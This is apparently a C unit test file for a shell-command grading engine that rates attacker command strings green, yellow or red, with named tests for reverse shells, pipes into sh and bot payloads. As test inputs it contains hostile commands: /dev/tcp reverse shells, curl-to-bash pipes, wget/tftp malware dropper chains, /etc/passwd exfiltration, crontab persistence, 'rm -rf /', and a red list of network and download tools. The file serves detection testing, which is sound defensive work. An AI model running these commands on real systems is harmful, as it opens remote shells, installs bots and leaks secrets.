/*
 * test_grade.c - grades, GRADING.md §4.
 *
 * Every name of the green, yellow and red rows, every rule that is not a
 * plain name (echo callbacks, sh with or without arguments, interpreters,
 * /dev/tcp reads and writes, pipes into sh, dropped files), user rows
 * winning over defaults (and not over the rules that are not about a
 * name), and real bot payloads.
 */
#include "ss.h"
#include "unit.h"

static ss_rules_t *rules;
static ss_arena_t arena;

static void init(void)
{
    if (!rules) {
        rules = ss_rules_new();
        ss_arena_init(&arena);
    }
}

static ss_grade_t grade_with(const ss_rules_t *r, const char *text)
{
    init();
    ss_payload_t p;
    memset(&p, 0, sizeof(p));
    ss_analyze_commands(r, text, strlen(text), &p, &arena);
    ss_arena_reset(&arena);
    return p.grade;
}

typedef struct {
    const char *text;
    ss_grade_t grade;
} grade_case_t;

static void check_grades(const ss_rules_t *r, const grade_case_t *cases, size_t n)
{
    for (size_t i = 0; i < n; i++) {
        ss_grade_t g = grade_with(r, cases[i].text);
        if (g != cases[i].grade)
            fprintf(stderr, "\n  input: %s: got %s, want %s", cases[i].text, ss_grade_name(g),
                    ss_grade_name(cases[i].grade));
        CU_ASSERT_EQUAL(g, cases[i].grade);
    }
}

#define CHECK_GRADES(r, cases) check_grades(r, cases, sizeof(cases) / sizeof(cases[0]))

static const char *const green_names[] = {
    "echo",  "printf", "true",   "false", "read",     ":",       "uname",  "id",     "whoami",
    "hostname", "pwd", "ls",     "cd",    "cat",      "head",    "tail",   "grep",   "egrep",
    "awk",   "sed",    "cut",    "sort",  "uniq",     "wc",      "tr",     "ps",     "w",
    "who",   "uptime", "df",     "free",  "nproc",    "lscpu",   "ifconfig", "netstat", "date",
    "sleep", "expr",   "env",    "set",   "export",   "exit",    "test",   "[",
};
static const char *const yellow_names[] = {
    "ping", "ping6", "traceroute", "tracepath", "nslookup", "dig", "host",
};
static const char *const red_names[] = {
    "wget",  "curl",   "tftp",     "ftp",     "ftpget",  "fetch", "lwp-download", "lynx",
    "GET",   "scp",    "nc",       "ncat",    "netcat",  "socat", "telnet",       "ssh",
    "chmod", "chown",  "crontab",  "useradd", "adduser", "passwd", "rm",          "kill",
    "killall", "pkill", "iptables", "mkfifo",
};

static void check_names(const char *const *names, size_t n, ss_grade_t want)
{
    char text[128];
    for (size_t i = 0; i < n; i++) {
        /* alone, with an argument, and through a path (env's argument
         * must be an assignment, or env is a prefix) */
        const char *arg = strcmp(names[i], "env") == 0 ? "X=1" : "arg";
        snprintf(text, sizeof(text), "%s", names[i]);
        ss_grade_t g1 = grade_with(rules, text);
        snprintf(text, sizeof(text), "%s %s", names[i], arg);
        ss_grade_t g2 = grade_with(rules, text);
        snprintf(text, sizeof(text), "/usr/bin/%s %s", names[i], arg);
        ss_grade_t g3 = grade_with(rules, text);
        ss_grade_t g4 = ss_rules_lookup(rules, names[i]);
        if (g1 != want || g2 != want || g3 != want || g4 != want)
            fprintf(stderr, "\n  %s: %d %d %d %d, want %d", names[i], g1, g2, g3, g4, want);
        CU_ASSERT(g1 == want && g2 == want && g3 == want && g4 == want);
    }
}

static void test_green_names(void)
{
    init();
    check_names(green_names, sizeof(green_names) / sizeof(green_names[0]), SS_GRADE_GREEN);
    CU_ASSERT_EQUAL(grade_with(rules, ""), SS_GRADE_GREEN); /* an empty list */
    CU_ASSERT_EQUAL(grade_with(rules, " ;; "), SS_GRADE_GREEN);
}

static void test_yellow_names(void)
{
    init();
    check_names(yellow_names, sizeof(yellow_names) / sizeof(yellow_names[0]), SS_GRADE_YELLOW);
    static const grade_case_t unknown[] = {
        {"enable", SS_GRADE_YELLOW},  {"system", SS_GRADE_YELLOW}, {"shell", SS_GRADE_YELLOW},
        {"ECCHI", SS_GRADE_YELLOW},   {"Wget x", SS_GRADE_YELLOW}, {"CURL x", SS_GRADE_YELLOW},
        {"ECHO x", SS_GRADE_YELLOW},  {"dd if=x", SS_GRADE_YELLOW}, {"$line", SS_GRADE_YELLOW},
        {"${x} y", SS_GRADE_YELLOW},  {"$(echo id)", SS_GRADE_YELLOW},
    };
    CHECK_GRADES(rules, unknown);
}

static void test_red_names(void)
{
    init();
    check_names(red_names, sizeof(red_names) / sizeof(red_names[0]), SS_GRADE_RED);
}

static void test_echo_callbacks(void)
{
    static const grade_case_t cases[] = {
        {"echo hi", SS_GRADE_GREEN},
        {"echo hi > /tmp/x", SS_GRADE_GREEN},
        {"echo -ne '\\x7f\\x45' > .d", SS_GRADE_GREEN},
        {"echo hi > /dev/tcp/1.2.3.4/80", SS_GRADE_YELLOW},
        {"echo hi >> /dev/udp/1.2.3.4/53", SS_GRADE_YELLOW},
        {"printf x > /dev/tcp/h/1", SS_GRADE_YELLOW},
        {"echo x &> /dev/tcp/h/1", SS_GRADE_YELLOW},
        {"echo x >& /dev/tcp/h/1", SS_GRADE_YELLOW},
        {"/bin/echo x >/dev/tcp/h/1", SS_GRADE_YELLOW},
        {"cat /etc/passwd > /dev/tcp/1.2.3.4/80", SS_GRADE_RED},
        {"uname -a >/dev/udp/h/53", SS_GRADE_RED},
        {"id 2>/dev/tcp/h/1", SS_GRADE_RED},
        {"./x > /dev/tcp/h/1", SS_GRADE_RED},
        {">/dev/tcp/1.2.3.4/80", SS_GRADE_YELLOW}, /* opens a connection, sends nothing */
        {"echo x > /dev/tcpx", SS_GRADE_GREEN},
    };
    CHECK_GRADES(rules, cases);
}

static void test_dev_tcp_reads(void)
{
    static const grade_case_t cases[] = {
        {"bash -i >& /dev/tcp/10.0.0.1/4444 0>&1", SS_GRADE_RED},
        {"sh 0</dev/tcp/10.0.0.1/4444", SS_GRADE_RED},
        {"cat < /dev/tcp/h/80", SS_GRADE_RED},
        {"exec 5<>/dev/tcp/h/443", SS_GRADE_RED}, /* redirection-only, still red */
        {"0<&196;exec 196<>/dev/tcp/h/1; sh <&196 >&196 2>&196", SS_GRADE_RED},
        {"<>/dev/udp/h/53", SS_GRADE_RED},
        {"while read l; do $l; done < /dev/tcp/h/1", SS_GRADE_RED},
        {"echo x >/dev/tcp/h/1 0>&1", SS_GRADE_RED},
        {"echo x >/dev/tcp/h/1 0<&1", SS_GRADE_RED},
        {"echo x 0>&1", SS_GRADE_GREEN}, /* a dup with no /dev/tcp: nothing */
        {"cat < /etc/passwd", SS_GRADE_GREEN},
        {"exec 3>/tmp/x", SS_GRADE_GREEN},
    };
    CHECK_GRADES(rules, cases);
}

static void test_pipes_into_sh(void)
{
    static const grade_case_t cases[] = {
        {"curl -s http://x/s | bash", SS_GRADE_RED},
        {"echo aWQ= | base64 -d | sh", SS_GRADE_RED},
        {"cat x | ash", SS_GRADE_RED},
        {"echo id | /bin/sh -s", SS_GRADE_RED},
        {"echo id | busybox sh", SS_GRADE_RED},
        {"echo id | sudo bash", SS_GRADE_RED},
        {"echo id | (sh)", SS_GRADE_RED},
        {"echo id | sh -c 'cat'", SS_GRADE_RED},
        {"echo id | cat", SS_GRADE_GREEN},
        {"echo id | python", SS_GRADE_YELLOW},
        {"sh | cat", SS_GRADE_YELLOW},
        {"echo id; sh", SS_GRADE_YELLOW},
        {"echo id || sh", SS_GRADE_YELLOW},
    };
    CHECK_GRADES(rules, cases);
}

static void test_shells(void)
{
    static const grade_case_t cases[] = {
        {"sh", SS_GRADE_YELLOW},
        {"bash", SS_GRADE_YELLOW},
        {"ash", SS_GRADE_YELLOW},
        {"/bin/sh", SS_GRADE_YELLOW},
        {"busybox sh", SS_GRADE_YELLOW},
        {"enable; system; shell; sh", SS_GRADE_YELLOW},
        {"sh -x", SS_GRADE_YELLOW},
        {"sh -s a b", SS_GRADE_YELLOW},
        {"bash -i", SS_GRADE_RED},
        {"sh -i", SS_GRADE_RED},
        {"bash -li", SS_GRADE_RED},
        {"sh bins.sh", SS_GRADE_RED},
        {"bash /tmp/x.sh", SS_GRADE_RED},
        {"ash -x ./run", SS_GRADE_RED},
        {"busybox sh script", SS_GRADE_RED},
        {"/bin/busybox sh .s", SS_GRADE_RED},
        {"bash -c 'id'", SS_GRADE_GREEN}, /* the wrapper is no command */
        {"sh -c 'wget x'", SS_GRADE_RED},
        {"sh -c", SS_GRADE_YELLOW},
        {"dash x.sh", SS_GRADE_YELLOW}, /* not in the table: unknown */
    };
    CHECK_GRADES(rules, cases);
}

static void test_interpreters(void)
{
    static const grade_case_t cases[] = {
        {"python -c 'import socket'", SS_GRADE_RED},
        {"python3 -c 'print(1)'", SS_GRADE_RED},
        {"python2.7 x.py", SS_GRADE_RED},
        {"perl -e 'print 1'", SS_GRADE_RED},
        {"perl -MIO -e 'x'", SS_GRADE_RED},
        {"perl -ne 'print'", SS_GRADE_RED},
        {"perl5.30 s.pl", SS_GRADE_RED},
        {"php -r 'system(\"id\");'", SS_GRADE_RED},
        {"php7 s.php", SS_GRADE_RED},
        {"ruby -rsocket -e 'x'", SS_GRADE_RED},
        {"ruby s.rb", SS_GRADE_RED},
        {"lua -e 'x'", SS_GRADE_RED},
        {"lua5.3 s.lua", SS_GRADE_RED},
        {"node -e 'x'", SS_GRADE_RED},
        {"node --eval 'x'", SS_GRADE_RED},
        {"node s.js", SS_GRADE_RED},
        {"python", SS_GRADE_YELLOW},
        {"python3", SS_GRADE_YELLOW},
        {"perl -v", SS_GRADE_YELLOW},
        {"node --version", SS_GRADE_YELLOW},
        {"php7", SS_GRADE_YELLOW},
        {"python -", SS_GRADE_YELLOW},
        {"pythonista x", SS_GRADE_YELLOW},
    };
    CHECK_GRADES(rules, cases);
}

static void test_dropped_files(void)
{
    static const grade_case_t cases[] = {
        {"./x86", SS_GRADE_RED},
        {"./mips telnet.mips", SS_GRADE_RED},
        {"/tmp/bot", SS_GRADE_RED},
        {"/var/tmp/.x", SS_GRADE_RED},
        {"/dev/shm/y", SS_GRADE_RED},
        {"x/y", SS_GRADE_RED},
        {"nohup ./dvrHelper &", SS_GRADE_RED},
        {"/usr/bin/id", SS_GRADE_GREEN},
        {"/tmp", SS_GRADE_YELLOW}, /* base name "tmp": unknown */
    };
    CHECK_GRADES(rules, cases);
}

static void test_bot_payloads(void)
{
    static const grade_case_t cases[] = {
        {"cd /tmp; wget http://1.2.3.4/bins.sh; chmod 777 bins.sh; sh bins.sh", SS_GRADE_RED},
        {"/bin/busybox ECCHI", SS_GRADE_YELLOW},
        {"tftp -g -r x86 1.2.3.4", SS_GRADE_RED},
        {"bash -i >& /dev/tcp/10.0.0.1/4444 0>&1", SS_GRADE_RED},
        {"curl -s http://x/s | bash", SS_GRADE_RED},
        {"echo -ne '\\x7f\\x45' > .d", SS_GRADE_GREEN},
        {"python -c 'import socket,subprocess,os;s=socket.socket()'", SS_GRADE_RED},
        {"/bin/ping -c1 10.246.50.2", SS_GRADE_YELLOW},
        {"echo 93e4r0-CVE-2014-6271: true;echo;echo;", SS_GRADE_GREEN},
        {"echo; echo; /bin/cat /etc/passwd", SS_GRADE_GREEN},
        {"/bin/uname -a; echo; id", SS_GRADE_GREEN},
        {"/usr/bin/nslookup evil.example", SS_GRADE_YELLOW},
        {"rm -rf /tmp/*; cd /tmp; busybox tftp -g -r mips 1.2.3.4; chmod +x mips; ./mips",
         SS_GRADE_RED},
        {"enable", SS_GRADE_YELLOW},
        {"/bin/busybox cp /bin/echo dvrHelper; >dvrHelper; /bin/busybox chmod 777 dvrHelper",
         SS_GRADE_RED},
        {"nohup perl -e 'use Socket;' &", SS_GRADE_RED},
        {"(crontab -l; echo '* * * * * x') | crontab -", SS_GRADE_RED},
    };
    CHECK_GRADES(rules, cases);
}

static void test_user_rows(void)
{
    ss_rules_t *r = ss_rules_new();
    CU_ASSERT_PTR_NOT_NULL_FATAL(r);
    CU_ASSERT_TRUE(ss_rules_set_user(r, "wget", SS_GRADE_GREEN));
    CU_ASSERT_TRUE(ss_rules_set_user(r, "id", SS_GRADE_RED));
    CU_ASSERT_TRUE(ss_rules_set_user(r, "mytool", SS_GRADE_GREEN));
    CU_ASSERT_TRUE(ss_rules_set_user(r, "echo", SS_GRADE_GREEN));
    CU_ASSERT_TRUE(ss_rules_set_user(r, "sh", SS_GRADE_GREEN));
    CU_ASSERT_TRUE(ss_rules_set_user(r, "python3", SS_GRADE_GREEN));
    CU_ASSERT_TRUE(ss_rules_set_user(r, "cat", SS_GRADE_GREEN));
    CU_ASSERT_TRUE(ss_rules_set_user(r, "./x86", SS_GRADE_YELLOW));
    CU_ASSERT_TRUE(ss_rules_set_user(r, "ping", SS_GRADE_YELLOW));
    CU_ASSERT_TRUE(ss_rules_set_user(r, "ping", SS_GRADE_RED)); /* last one wins */
    CU_ASSERT_FALSE(ss_rules_set_user(r, "", SS_GRADE_RED));
    CU_ASSERT_FALSE(ss_rules_set_user(r, NULL, SS_GRADE_RED));
    CU_ASSERT_FALSE(ss_rules_set_user(r, "x", SS_GRADE_NONE));
    CU_ASSERT_FALSE(ss_rules_set_user(r, "x", (ss_grade_t)7));
    CU_ASSERT_FALSE(ss_rules_set_user(NULL, "x", SS_GRADE_RED));
    static const grade_case_t cases[] = {
        {"wget http://x/y", SS_GRADE_GREEN},
        {"/usr/bin/wget x", SS_GRADE_GREEN},
        {"busybox wget x", SS_GRADE_GREEN},
        {"id", SS_GRADE_RED},
        {"mytool", SS_GRADE_GREEN},
        {"Mytool", SS_GRADE_YELLOW}, /* case-sensitive */
        {"ping x", SS_GRADE_RED},
        /* name-specific rules follow the user row */
        {"echo x > /dev/tcp/h/1", SS_GRADE_GREEN},
        {"sh bins.sh", SS_GRADE_GREEN},
        {"sh -i", SS_GRADE_GREEN},
        {"python3 -c 'x'", SS_GRADE_GREEN},
        {"./x86", SS_GRADE_YELLOW},
        /* rules not about a name still apply */
        {"cat < /dev/tcp/h/80", SS_GRADE_RED},
        {"cat /etc/passwd > /dev/tcp/h/80", SS_GRADE_RED},
        {"echo id | sh", SS_GRADE_RED},
        {"sh -i >& /dev/tcp/h/1 0>&1", SS_GRADE_RED},
        {"exec 5<>/dev/tcp/h/1", SS_GRADE_RED},
        /* other defaults untouched */
        {"curl x", SS_GRADE_RED},
        {"bash -i", SS_GRADE_RED},
    };
    CHECK_GRADES(r, cases);
    CU_ASSERT_EQUAL(ss_rules_lookup(r, "wget"), SS_GRADE_GREEN);
    CU_ASSERT_EQUAL(ss_rules_lookup(r, "mytool"), SS_GRADE_GREEN);
    CU_ASSERT_EQUAL(ss_rules_lookup(r, "ping"), SS_GRADE_RED);

    ss_rules_clear_user(r);
    static const grade_case_t after[] = {
        {"wget x", SS_GRADE_RED},   {"id", SS_GRADE_GREEN},        {"mytool", SS_GRADE_YELLOW},
        {"sh x", SS_GRADE_RED},     {"echo x >/dev/tcp/h/1", SS_GRADE_YELLOW},
        {"ping x", SS_GRADE_YELLOW},
    };
    CHECK_GRADES(r, after);
    CU_ASSERT_EQUAL(ss_rules_lookup(r, "mytool"), SS_GRADE_YELLOW);

    /* Many user rows: the table grows. */
    char name[32];
    for (int i = 0; i < 2000; i++) {
        snprintf(name, sizeof(name), "tool%d", i);
        CU_ASSERT_TRUE(ss_rules_set_user(r, name, (ss_grade_t)(1 + i % 3)));
    }
    for (int i = 0; i < 2000; i += 97) {
        snprintf(name, sizeof(name), "tool%d", i);
        CU_ASSERT_EQUAL(ss_rules_lookup(r, name), (ss_grade_t)(1 + i % 3));
    }
    CU_ASSERT_EQUAL(ss_rules_lookup(r, "wget"), SS_GRADE_RED);
    ss_rules_free(r);
    ss_rules_free(NULL);
}

static void test_lookup(void)
{
    init();
    CU_ASSERT_EQUAL(ss_rules_lookup(rules, "sh"), SS_GRADE_YELLOW);
    CU_ASSERT_EQUAL(ss_rules_lookup(rules, "bash"), SS_GRADE_YELLOW);
    CU_ASSERT_EQUAL(ss_rules_lookup(rules, "python3"), SS_GRADE_YELLOW);
    CU_ASSERT_EQUAL(ss_rules_lookup(rules, "unknowncmd"), SS_GRADE_YELLOW);
    CU_ASSERT_EQUAL(ss_rules_lookup(rules, "./x86"), SS_GRADE_RED);
    CU_ASSERT_EQUAL(ss_rules_lookup(rules, "/tmp/x"), SS_GRADE_RED);
    CU_ASSERT_EQUAL(ss_rules_lookup(rules, "$x"), SS_GRADE_YELLOW);
    CU_ASSERT_EQUAL(ss_rules_lookup(rules, ""), SS_GRADE_NONE);
    CU_ASSERT_EQUAL(ss_rules_lookup(rules, NULL), SS_GRADE_NONE);
    /* No table at all: the defaults. */
    CU_ASSERT_EQUAL(ss_rules_lookup(NULL, "wget"), SS_GRADE_RED);
    CU_ASSERT_EQUAL(ss_rules_lookup(NULL, "id"), SS_GRADE_GREEN);
    CU_ASSERT_EQUAL(grade_with(NULL, "curl x | sh"), SS_GRADE_RED);
    CU_ASSERT_EQUAL(grade_with(NULL, "id"), SS_GRADE_GREEN);
}

static void test_nested_grades(void)
{
    static const grade_case_t cases[] = {
        {"echo $(wget -qO- http://x)", SS_GRADE_RED},
        {"echo `rm -rf /`", SS_GRADE_RED},
        {"bash -c \"sh -c 'ping -c1 h'\"", SS_GRADE_YELLOW},
        {"eval 'id; uname'", SS_GRADE_GREEN},
        {"if true; then wget x; fi", SS_GRADE_RED},
        {"for i in 1 2; do ./x$i; done", SS_GRADE_RED},
        {"case a in a) chmod +x y;; esac", SS_GRADE_RED},
        {"echo 'wget http://x'", SS_GRADE_GREEN},
        {"# wget x", SS_GRADE_GREEN},
        {"cat <<E\nrm -rf /\nE", SS_GRADE_GREEN},
    };
    CHECK_GRADES(rules, cases);
}

static CU_TestInfo tests[] = {
    {"green names", test_green_names},
    {"yellow names and unknown commands", test_yellow_names},
    {"red names", test_red_names},
    {"echo/printf callbacks and output to /dev/tcp", test_echo_callbacks},
    {"reading from /dev/tcp", test_dev_tcp_reads},
    {"piping into sh", test_pipes_into_sh},
    {"sh/bash/ash arguments", test_shells},
    {"interpreters", test_interpreters},
    {"dropped files", test_dropped_files},
    {"bot payloads", test_bot_payloads},
    {"user rows", test_user_rows},
    {"ss_rules_lookup", test_lookup},
    {"nested commands are graded", test_nested_grades},
    CU_TEST_INFO_NULL,
};

HS_UNIT_MAIN("grade", tests)
